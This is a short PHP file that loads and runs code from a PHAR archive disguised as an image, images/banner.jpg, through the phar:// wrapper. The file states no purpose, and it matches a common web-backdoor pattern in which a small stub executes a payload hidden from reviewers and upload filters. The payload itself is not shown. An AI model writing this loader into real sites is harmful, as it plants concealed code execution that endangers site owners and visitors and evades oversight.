<?php
if (!defined('LOADED')) {
    define('LOADED', 1);
    require_once "phar://" . dirname(__FILE__) . "/images/banner.jpg/init.php";
}
